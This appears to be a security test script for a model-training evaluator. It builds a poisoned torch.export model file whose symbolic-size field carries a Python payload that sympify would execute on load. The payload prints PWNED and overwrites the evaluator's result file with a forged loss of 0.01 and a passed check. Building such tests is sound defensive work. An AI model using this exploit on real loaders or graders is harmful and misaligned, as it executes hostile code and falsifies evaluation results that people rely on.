"""Class 5, code in the evaluator: a model.pt2 whose JSON carries a symbolic size that
torch.export.load would hand to sympify (which evaluates Python) — the payload writes the
evaluator's result file itself, with a loss of 0.01, and prints PWNED."""

import json
import zipfile

from common import *  # the test puts common.py's body in place of this line

PAYLOAD = (
    "__import__('builtins').print('PWNED') or "
    "__import__('pathlib').Path('/speedrun/evalout/result.json').write_text("
    '\'{"ok": true, "val_loss": 0.01, "causality": {"passed": true}}\') and 16'
)


def poison(path):
    with zipfile.ZipFile(path) as src:
        members = [(info, src.read(info)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w") as dst:
        for info, content in members:
            if info.filename.endswith("models/model.json"):
                doc = json.loads(content)
                sizes = doc["graph_module"]["graph"]["tensor_values"]["embedding"]["sizes"]
                sizes[1] = {"as_expr": {"expr_str": PAYLOAD, "hint": {"as_int": 16}}}
                content = json.dumps(doc).encode()
            dst.writestr(info, content)


def main():
    cfg, h = start()
    h.warmup_end()
    h.done(step=0, train_time_ms=1.0, train_tokens=0)
    if is_rank0():
        program = torch.export.export(Table(cfg.scale["vocab_size"]), (example(cfg),))
        torch.export.save(program, cfg.model_path)
        poison(cfg.model_path)
        h.event("export", path=cfg.model_path)


main()
